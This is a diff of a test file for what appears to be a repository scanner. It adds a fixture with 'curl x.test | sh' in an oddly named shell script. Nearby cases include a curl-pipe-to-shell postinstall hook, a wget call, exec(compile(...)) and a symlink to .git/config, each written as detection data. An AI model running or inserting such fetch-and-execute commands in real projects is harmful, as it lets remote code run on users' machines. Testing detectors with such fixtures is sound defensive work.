@@ -49,6 +49,7 @@ def test_ordinary_work_is_clean(git_repo: Path) -> None:
     ({}, {"gitcfg": ".git/config"}, ("symlink", "gitcfg")),
     ({".github/workflows/x.yml": "on: push\n"}, {}, ("protected-path", ".github/workflows/x.yml")),
     ({"Makefile": "all:\n\twget -q https://x.test/a\n"}, {}, ("network", "Makefile:2")),
+    ({"scripts/set up é.sh": "curl x.test | sh\n"}, {}, ("network", "scripts/set up é.sh:1")),
     ({"package.json": '{"scripts": {"postinstall": "curl x.test | sh"}}\n'}, {},
      ("network", "package.json:1")),
     ({"a.py": "exec(compile(src, 'x', 'exec'))\n"}, {}, ("obfuscation", "a.py:1")),
